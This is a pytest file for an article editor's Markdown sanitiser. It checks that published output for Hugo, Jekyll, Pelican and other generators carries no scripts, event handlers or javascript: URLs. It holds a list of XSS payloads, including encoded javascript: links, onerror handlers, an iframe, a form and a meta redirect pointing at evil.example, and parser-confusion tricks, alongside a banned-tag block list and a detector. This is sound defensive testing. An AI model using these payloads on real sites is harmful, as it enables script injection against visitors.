"""What Publish writes is sanitised like the preview: one allow-list (core.sanitize) for the
rendered HTML and for the raw HTML inside the Markdown a generator reads."""

from __future__ import annotations

from html.parser import HTMLParser

import markdown
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from articleeditor.core.article import Article
from articleeditor.core.page import page_html
from articleeditor.core.publish import plan_publish
from articleeditor.core.render import render_markdown
from articleeditor.core.sanitize import is_allowed_url, protected_spans, sanitize_markdown
from articleeditor.core.site import SiteConfigError, load_site, publish_settings

from .test_publish import NOW, make_site

BANNED_TAGS = {
    "script",
    "iframe",
    "style",
    "form",
    "object",
    "embed",
    "button",
    "textarea",
    "frame",
    "frameset",
    "meta",
    "link",
    "base",
    "svg",
    "math",
}


class _Tags(HTMLParser):
    """Every element and attribute a browser would build from some HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, {k: v or "" for k, v in attrs}))


def dangers(html: str) -> list[str]:
    """The unsafe elements, handlers and URLs in ``html`` (empty when it is clean)."""
    parser = _Tags()
    parser.feed(html)
    parser.close()
    out = []
    for tag, attrs in parser.found:
        if tag in BANNED_TAGS or (tag == "input" and attrs.get("type") != "checkbox"):
            out.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on") or name == "style":
                out.append(f"{tag}[{name}]")
            if name in ("href", "src", "action", "formaction") and not is_allowed_url(value):
                out.append(f"{tag}[{name}={value}]")
    return out


def generator_html(text: str) -> str:
    """How a generator that passes raw HTML (Hugo with unsafe, Jekyll, Pelican) renders it."""
    return markdown.markdown(text, extensions=["fenced_code", "tables"])


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x.png onerror=alert(1)>",
    "<IMG SRC=x.png OnError=alert(1)>",
    '<img src="x.png"\nonerror="alert(1)">',
    "<iframe src=https://evil.example/></iframe>",
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href="&#106;avascript:alert(1)">a</a>',
    "[click](javascript:alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](javascript\\:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](&#0000000000000000000000000000000000000106;avascript:alert(1))",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    '<form action="https://evil.example"><input name="q"><button>Go</button></form>',
    '<div onclick="alert(1)" style="position:fixed">box</div>',
    "<style>body{display:none}</style>",
    "<svg onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<!--> <img src=x onerror=alert(1)> -->",
    '<a title="`"><img src=x onerror=alert(1)>`</a>',
    "<div>\n`<img src=x onerror=alert(1)>`\n</div>",
    "<div>\n\n`<img src=x onerror=alert(1)>`\n\n</div>",
    "<div>\n\n```\n<img src=x onerror=alert(1)>\n```\n\n</div>",
    "A ` tick.\n\n<img src=x onerror=alert(1)>\n\nB ` tick.",
    "```\n<img src=x onerror=alert(1)>",
    # code for CommonMark (a longer closing fence), not for Python-Markdown (Pelican)
    "````\n<img src=x onerror=alert(1)>\n`````",
    "<object data=x.swf></object><embed src=x.swf>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    # no parser breaks a line at U+2028, so this is no fence: the tag is live
    "text\u2028```\n<img src=x onerror=alert(1)>\n```",
    # every parser breaks lines at a lone CR: a reference definition
    "[r]\r\r[r]: javascript:alert(1)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_raw_html_is_cleaned_in_the_markdown(text):
    cleaned = sanitize_markdown(text)
    assert cleaned != text
    assert dangers(generator_html(cleaned)) == []
    # the preview's pipeline agrees: nothing it would show is lost beyond what it drops
    assert dangers(render_markdown(cleaned)) == []


SAFE = [
    "Plain *text* with <b>bold</b>, <em>em</em> and <sup>1</sup>.",
    '<figure><img src="a.png" alt="A"><figcaption>Caption</figcaption></figure>',
    "Use `<script>` and `<iframe>` with care.",
    '```html\n<script src="app.js"></script>\n<div onclick="go()">x</div>\n```',
    "~~~\n<iframe src=x></iframe>\n~~~",
    "<https://example.org/a_(b)> and <dana@example.org>",
    '[a link](https://example.org/x_(y)) and ![img](images/a.png "t")',
    "[ref]\n\n[ref]: https://example.org",
    "3 < 4 and 5 > 2, <!--more--> kept",
    "<details><summary>More</summary>\n\nHidden *text*.\n\n</details>",
    "- [ ] task\n- [x] done",
]


@pytest.mark.parametrize("text", SAFE)
def test_allowed_html_links_and_code_are_unchanged(text):
    assert sanitize_markdown(text) == text


def test_changes_are_exactly_what_the_allow_list_drops():
    text = (
        'Hi <span class="x" onclick="a()">there</span> '
        '<img src="a.png" onerror="b()" alt="A"> [go](javascript:void(0)) end.'
    )
    assert sanitize_markdown(text) == (
        'Hi <span class="x">there</span> <img src="a.png" alt="A"> [go](#) end.'
    )


def test_script_and_style_go_with_their_content():
    assert sanitize_markdown("a <script>steal()</script> b <style>p{}</style> c") == "a  b  c"


def test_text_that_only_looks_like_a_tag_becomes_text():
    # Not raw HTML for CommonMark; "&lt;" keeps it text for every other parser too.
    assert sanitize_markdown("if a<b, then c>d") == "if a&lt;b, then c>d"
    assert generator_html(sanitize_markdown("if a<b, then c>d")) == (
        "<p>if a&lt;b, then c&gt;d</p>"
    )


def test_code_is_protected_only_where_every_parser_reads_code():
    body = "`<x>`\n\n```\n<y>\n```\n\n<div>\n`<z>`\n</div>\n"
    spans = [body[a:b] for a, b in protected_spans(body)]
    assert spans == ["`<x>`", "```\n<y>\n```\n"]


FRAGMENTS = st.sampled_from(
    HOSTILE
    + SAFE
    + [
        "`",
        "``",
        "<",
        ">",
        "<div>",
        "</div>",
        "\n",
        "\n\n",
        "```",
        "    ",
        "- ",
        "> ",
        '"',
        "'",
        "=",
        "<img",
        " src=x",
        " onerror=alert(1)",
        "<!--",
        "-->",
        "\r",
        "\u2028",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(FRAGMENTS, max_size=12))
def test_no_mix_of_fragments_gets_anything_dangerous_through(parts):
    cleaned = sanitize_markdown("".join(parts))
    assert dangers(generator_html(cleaned)) == []
    assert sanitize_markdown(cleaned) == cleaned  # a second pass finds nothing more


# ----- in a publish ------------------------------------------------------------------------------

ARTICLE = """---
title: Hostile
date: 2026-01-02
summary: s
---

Text <img src="x.png" onerror="alert(1)"> and [go](javascript:alert(1)).

<script>alert(2)</script>
<iframe src="https://evil.example/"></iframe>

```html
<script>shown as code</script>
```
"""


@pytest.mark.parametrize("generator", ["hugo", "jekyll", "pelican", "astro", "plain"])
def test_published_files_carry_no_script_handler_or_js_url(tmp_path, generator):
    site = make_site(tmp_path / "site", generator)
    path = tmp_path / "a.md"
    path.write_text(ARTICLE, encoding="utf-8")
    plan = plan_publish(Article.load(path), load_site(site), now=NOW)
    assert plan.problems == []
    article = plan.files[0].data.decode("utf-8")
    assert "onerror" not in article and "javascript:" not in article
    assert "<iframe" not in article and "alert(2)" not in article
    assert "<script>shown as code</script>" in article  # code is left as written
    for page in plan.files[1:]:
        assert page.target.suffix == ".html"
        # the page shell's own <meta> and <style> are the only elements off the allow-list
        assert dangers(page.data.decode("utf-8")) == dangers(page_html(None))
    assert not any("raw_html" in w for w in plan.warnings)


def test_html_body_is_the_preview_html(tmp_path):
    site = make_site(tmp_path / "site", "hugo", '[publish]\nbody = "html"\n')
    path = tmp_path / "a.md"
    path.write_text(ARTICLE, encoding="utf-8")
    plan = plan_publish(Article.load(path), load_site(site), now=NOW)
    html = plan.files[0].data.decode("utf-8").split("---\n", 2)[2]
    assert dangers(html) == [] and "shown" in html and "alert" not in html


def test_a_site_may_keep_raw_html_and_the_plan_says_so(tmp_path):
    site = make_site(tmp_path / "site", "hugo", '[publish]\nraw_html = "keep"\n')
    path = tmp_path / "a.md"
    path.write_text(ARTICLE, encoding="utf-8")
    plan = plan_publish(Article.load(path), load_site(site), now=NOW)
    article = plan.files[0].data.decode("utf-8")
    assert '<img src="x.png" onerror="alert(1)">' in article and "<script>alert(2)" in article
    assert any('raw_html = "keep"' in w for w in plan.warnings)


def test_raw_html_setting_is_checked(tmp_path):
    site = make_site(tmp_path / "site", "hugo", '[publish]\nraw_html = "yes"\n')
    with pytest.raises(SiteConfigError) as caught:
        publish_settings(load_site(site))
    assert "publish.raw_html must be sanitize or keep" in str(caught.value)


def test_hugo_shortcodes_are_hugo_s_not_html():
    text = (
        '{{<figure src="a.png" alt="A">}} and {{< figure src="b.png" >}}\n\n'
        "{{<highlight html>}}\n<script>shown as code</script>\n{{</highlight>}}\n\n"
        "<script>alert(1)</script>"
    )
    assert sanitize_markdown(text, hugo=True) == (
        '{{< figure src="a.png" alt="A">}} and {{< figure src="b.png" >}}\n\n'
        "{{< highlight html>}}\n<script>shown as code</script>\n{{< /highlight>}}\n\n"
    )
    # elsewhere "{{<figure …>}}" holds an HTML tag like any other
    assert sanitize_markdown('{{<figure src="a.png">}}') == "{{<figure>}}"


def test_hugo_publish_keeps_shortcodes(tmp_path):
    site = make_site(tmp_path / "site", "hugo")
    path = tmp_path / "a.md"
    path.write_text(
        "---\ntitle: T\ndate: 2026-01-02\nsummary: s\n---\n"
        '{{<figure src="https://example.org/a.png">}}\n',
        encoding="utf-8",
    )
    plan = plan_publish(Article.load(path), load_site(site), now=NOW)
    assert b'{{< figure src="https://example.org/a.png">}}' in plan.files[0].data
